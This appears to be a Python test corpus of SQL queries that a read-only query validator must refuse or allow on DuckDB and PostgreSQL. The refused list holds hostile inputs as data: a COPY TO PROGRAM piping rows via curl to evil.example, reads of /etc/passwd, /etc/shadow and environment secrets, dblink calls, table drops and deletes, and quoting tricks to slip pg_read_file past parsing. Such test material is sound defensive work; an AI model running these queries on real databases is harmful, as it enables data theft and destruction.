"""A corpus of source queries: hostile ones that must be refused, ordinary ones that must pass.

Each hostile entry names the part of the message the refusal must carry (checked at config
time, where both dialects are parsed) and is refused by the exact-dialect check of both
engines, so a query aimed at one engine cannot pass on the other. The ledger table name is the
real one: a query that got through would wipe or change the ledger the tests count.
"""

from __future__ import annotations

from dataclasses import dataclass

LEDGER = "moments_sync_participant_status"


@dataclass(frozen=True)
class Hostile:
    """A query that must never run, and what its refusal must say."""

    id: str
    sql: str
    message: str


HOSTILE: list[Hostile] = [
    # Statements hidden inside a SELECT.
    Hostile(
        "cte_delete",
        f"WITH d AS (DELETE FROM {LEDGER} RETURNING 1) SELECT * FROM d",
        "DELETE inside a CTE is refused",
    ),
    Hostile(
        "cte_update",
        f"WITH u AS (UPDATE {LEDGER} SET status = 'X' RETURNING 1) SELECT count(*) FROM u",
        "UPDATE inside a CTE is refused",
    ),
    Hostile(
        "cte_insert",
        f"WITH i AS (INSERT INTO {LEDGER} SELECT * FROM {LEDGER} RETURNING 1) SELECT 1",
        "INSERT inside a CTE is refused",
    ),
    Hostile(
        "nested_cte_delete_in_where",
        f"SELECT 1 WHERE EXISTS (WITH d AS (DELETE FROM {LEDGER} RETURNING 1) SELECT 1 FROM d)",
        "DELETE inside a CTE is refused",
    ),
    Hostile(
        "cte_delete_in_union",
        f"SELECT 1 UNION ALL (WITH d AS (DELETE FROM {LEDGER} RETURNING 1) SELECT 1 FROM d)",
        "DELETE inside a CTE is refused",
    ),
    Hostile("second_statement", f"SELECT 1 AS x; DELETE FROM {LEDGER}", "found 2"),
    Hostile("comment_then_statement", f"SELECT 1 /* harmless */ ; DROP TABLE {LEDGER}", "found 2"),
    Hostile("select_into", f"SELECT * INTO stolen FROM {LEDGER}", "SELECT ... INTO is refused"),
    Hostile("for_update", f"SELECT * FROM {LEDGER} FOR UPDATE", "locking clause"),
    Hostile(
        "for_no_key_update_skip_locked",
        f"SELECT * FROM {LEDGER} FOR NO KEY UPDATE SKIP LOCKED",
        "locking clause",
    ),
    # Statements that are not reads.
    Hostile("delete", f"DELETE FROM {LEDGER}", "must be a SELECT, found DELETE"),
    Hostile("update", f"UPDATE {LEDGER} SET status = 'X'", "must be a SELECT, found UPDATE"),
    Hostile(
        "insert", f"INSERT INTO {LEDGER} SELECT * FROM {LEDGER}", "must be a SELECT, found INSERT"
    ),
    Hostile(
        "merge",
        f"MERGE INTO {LEDGER} t USING {LEDGER} s ON t.status = s.status WHEN MATCHED THEN DELETE",
        "must be a SELECT, found MERGE",
    ),
    Hostile("drop", f"DROP TABLE {LEDGER}", "must be a SELECT, found DROP"),
    Hostile("truncate", f"TRUNCATE {LEDGER}", "must be a SELECT, found TRUNCATE"),
    Hostile("create_as", "CREATE TABLE x AS SELECT 1", "must be a SELECT, found CREATE"),
    Hostile("alter", f"ALTER TABLE {LEDGER} ADD COLUMN x INTEGER", "must be a SELECT"),
    Hostile("copy_to_file", f"COPY {LEDGER} TO '/tmp/ledger.csv'", "must be a SELECT, found COPY"),
    Hostile(
        "copy_program",
        f"COPY {LEDGER} TO PROGRAM 'curl -d @- https://evil.example'",
        "must be a SELECT, found COPY",
    ),
    Hostile("copy_from_file", f"COPY {LEDGER} FROM '/etc/passwd'", "must be a SELECT"),
    Hostile("attach", "ATTACH '/tmp/other.duckdb' AS other", "must be a SELECT"),
    Hostile("detach", "DETACH other", "must be a SELECT"),
    Hostile("install", "INSTALL httpfs", "must be a SELECT"),
    Hostile("load", "LOAD httpfs", "must be a SELECT"),
    Hostile("pragma", "PRAGMA database_list", "must be a SELECT"),
    Hostile("set", "SET enable_external_access = true", "must be a SELECT"),
    Hostile("reset", "RESET statement_timeout", "must be a SELECT"),
    Hostile("call", "CALL pragma_version()", "must be a SELECT"),
    Hostile("export", "EXPORT DATABASE '/tmp/dump'", "could not be parsed"),
    Hostile("import", "IMPORT DATABASE '/tmp/dump'", "could not be parsed"),
    Hostile("explain_analyze", f"EXPLAIN ANALYZE DELETE FROM {LEDGER}", "must be a SELECT"),
    Hostile("vacuum", "VACUUM", "must be a SELECT"),
    Hostile("grant", f"GRANT ALL ON {LEDGER} TO PUBLIC", "must be a SELECT"),
    Hostile("begin", "BEGIN", "must be a SELECT"),
    # DuckDB: files, the environment, dynamic SQL.
    Hostile(
        "read_csv",
        "SELECT * FROM read_csv('/etc/passwd')",
        "function read_csv is refused: it reads",
    ),
    Hostile(
        "read_csv_auto_in_union",
        "SELECT 1 AS a UNION ALL SELECT * FROM read_csv_auto('/etc/passwd')",
        "read_csv_auto is refused",
    ),
    Hostile(
        "read_text_environ",
        "SELECT content FROM read_text('/proc/self/environ')",
        "function read_text is refused",
    ),
    Hostile(
        "read_json_in_cte",
        "WITH x AS (SELECT * FROM read_json_auto('/tmp/x.json')) SELECT * FROM x",
        "read_json_auto is refused",
    ),
    Hostile("read_blob", "SELECT * FROM read_blob('/etc/shadow')", "read_blob is refused"),
    Hostile("read_parquet", "SELECT * FROM read_parquet('s3://b/k.parquet')", "is refused"),
    Hostile("parquet_metadata", "SELECT * FROM parquet_metadata('/tmp/x')", "parquet_metadata is"),
    Hostile("glob", "SELECT * FROM glob('/etc/*')", "function glob is refused"),
    Hostile("sniff_csv", "SELECT * FROM sniff_csv('/etc/passwd')", "sniff_csv is refused"),
    Hostile("string_path_in_from", "SELECT * FROM '/etc/passwd'", "table name '/etc/passwd'"),
    Hostile("quoted_path_in_join", 'SELECT * FROM t JOIN "data.csv" d ON true', "'data.csv'"),
    Hostile(
        "getenv_as_variable",
        "SELECT getenv('INFOBIP_API_KEY') AS loyalty_tier",
        "function getenv is refused: it reads the environment",
    ),
    Hostile(
        "current_setting",
        "SELECT current_setting('enable_external_access') AS x",
        "current_setting is refused",
    ),
    Hostile("query_fn", f"SELECT * FROM query('DELETE FROM {LEDGER}')", "function query is"),
    Hostile("query_table", f"SELECT * FROM query_table('{LEDGER}')", "query_table is refused"),
    Hostile("settings_table_fn", "SELECT * FROM duckdb_settings()", "table function"),
    Hostile("unknown_table_fn", "SELECT * FROM my_udtf(1)", "table function my_udtf"),
    Hostile(
        "read_csv_in_lateral",
        "SELECT * FROM (SELECT 1 AS n) t, LATERAL (SELECT * FROM read_csv('/etc/passwd')) f",
        "read_csv is refused",
    ),
    Hostile(
        "getenv_in_case",
        "SELECT CASE WHEN 1 = 1 THEN getenv('HOME') END AS x",
        "getenv is refused",
    ),
    # PostgreSQL: files, other servers, settings, side effects.
    Hostile("pg_read_file", "SELECT pg_read_file('/etc/passwd')", "pg_read_file is refused"),
    Hostile(
        "pg_read_file_qualified",
        "SELECT pg_catalog.pg_read_file('/etc/passwd') AS x",
        "pg_read_file is refused",
    ),
    Hostile("pg_read_file_quoted", "SELECT \"pg_read_file\"('/etc/passwd')", "pg_read_file is"),
    Hostile("pg_read_binary_file", "SELECT pg_read_binary_file('/x')", "pg_read_binary_file"),
    Hostile("pg_ls_dir", "SELECT * FROM pg_ls_dir('.') AS d", "pg_ls_dir is refused"),
    Hostile("pg_stat_file", "SELECT (pg_stat_file('/etc/passwd')).size", "pg_stat_file"),
    Hostile("lo_import", "SELECT lo_import('/etc/passwd')", "lo_import is refused"),
    Hostile("lo_export", "SELECT lo_export(1, '/tmp/x')", "lo_export is refused"),
    Hostile(
        "dblink",
        "SELECT * FROM dblink('host=evil', 'SELECT 1') AS t(a int)",
        "dblink is refused: it reaches",
    ),
    Hostile("dblink_exec", "SELECT dblink_exec('host=evil', 'DROP TABLE x')", "dblink_exec is"),
    Hostile(
        "set_config", "SELECT set_config('statement_timeout', '0', false)", "set_config is refused"
    ),
    Hostile("pg_sleep", "SELECT pg_sleep(3600)", "pg_sleep is refused: it has side effects"),
    Hostile(
        "pg_terminate_backend",
        "SELECT pg_terminate_backend(pid) FROM pg_stat_activity",
        "pg_terminate_backend is refused",
    ),
    Hostile("pg_cancel_backend", "SELECT pg_cancel_backend(1)", "pg_cancel_backend is refused"),
    Hostile("pg_reload_conf", "SELECT pg_reload_conf()", "pg_reload_conf is refused"),
    Hostile("txid_current", "SELECT txid_current()", "txid_current is refused"),
    Hostile("advisory_lock", "SELECT pg_advisory_lock(42)", "pg_advisory_lock is refused"),
    Hostile("nextval", "SELECT nextval('moments_seq')", "nextval is refused"),
    Hostile("setval", "SELECT setval('moments_seq', 1)", "setval is refused"),
    Hostile(
        "query_to_xml",
        f"SELECT query_to_xml('DELETE FROM {LEDGER} RETURNING 1', true, false, '')",
        "query_to_xml is refused",
    ),
    Hostile(
        "backslash_string_trick",
        "SELECT 'a\\' , pg_read_file('/etc/passwd') --'",
        "pg_read_file is refused",
    ),
    Hostile(
        "dollar_quote_trick",
        "SELECT $$ ' $$ AS a, pg_read_file('/etc/passwd') AS b",
        "pg_read_file is refused",
    ),
    Hostile(
        "hostile_in_window_order",
        "SELECT row_number() OVER (ORDER BY pg_sleep(1)) AS rn",
        "pg_sleep is refused",
    ),
    Hostile(
        "unicode_escaped_function_name",
        "SELECT U&\"\\0070g_read_file\"('/etc/passwd') AS x",
        "functions are called by plain names",
    ),
    Hostile("unparseable", "SELEC email FROM customers", "could not be parsed"),
]

#: Ordinary queries over ``customers``/``orders`` (see ``ALLOWED_TABLES``) that must pass the
#: check and run on both engines.
ALLOWED: list[str] = [
    "SELECT id, email FROM customers",
    "SELECT c.id, o.total FROM customers c JOIN orders o ON o.customer_id = c.id",
    "SELECT c.id, o.total FROM customers AS c LEFT JOIN orders AS o ON o.customer_id = c.id "
    "WHERE o.total IS NULL OR o.total > 10",
    "WITH r AS (SELECT * FROM customers) SELECT id, email FROM r",
    "WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < 3) "
    "SELECT c.id FROM customers c JOIN n ON n.i = c.id",
    "SELECT id, row_number() OVER (PARTITION BY lower(email) ORDER BY id) AS rn FROM customers",
    "SELECT id, CASE WHEN id > 1 THEN 'late' ELSE 'early' END AS kind FROM customers",
    "SELECT CAST(id AS VARCHAR) AS id_text, id::text AS id2, CAST(total AS INTEGER) AS t "
    "FROM orders",
    "SELECT id FROM customers WHERE id IN (SELECT customer_id FROM orders)",
    "SELECT id FROM customers c WHERE EXISTS (SELECT 1 FROM orders o WHERE o.customer_id = c.id)",
    "SELECT s.id FROM (SELECT id FROM customers WHERE email LIKE '%@example.com') AS s",
    "SELECT id FROM customers UNION SELECT customer_id FROM orders",
    "SELECT id FROM customers UNION ALL SELECT customer_id FROM orders ORDER BY 1",
    "SELECT id FROM customers EXCEPT SELECT customer_id FROM orders",
    "SELECT lower(trim(email)) AS email, coalesce(first_name, 'friend') AS first_name "
    "FROM customers",
    "SELECT id, date_trunc('month', created_at) AS month, extract(year FROM created_at) AS y, "
    "CAST(created_at AS DATE) AS d FROM orders "
    "WHERE created_at >= TIMESTAMP '2020-01-01 00:00:00' - INTERVAL '7 days'",
    "SELECT customer_id, count(*) AS n, sum(total) AS s FROM orders GROUP BY customer_id "
    "HAVING count(*) >= 1 ORDER BY customer_id LIMIT 10",
    "SELECT DISTINCT customer_id FROM orders",
    "SELECT c.id, x.n FROM customers c, LATERAL (SELECT count(*) AS n FROM orders o "
    "WHERE o.customer_id = c.id) AS x",
    "SELECT g AS n FROM generate_series(1, 3) AS g",
    "SELECT id FROM customers -- a trailing comment",
    "SELECT id FROM customers;",
    "SELECT 'why?' AS q, '100%' AS pct, id FROM customers",
]
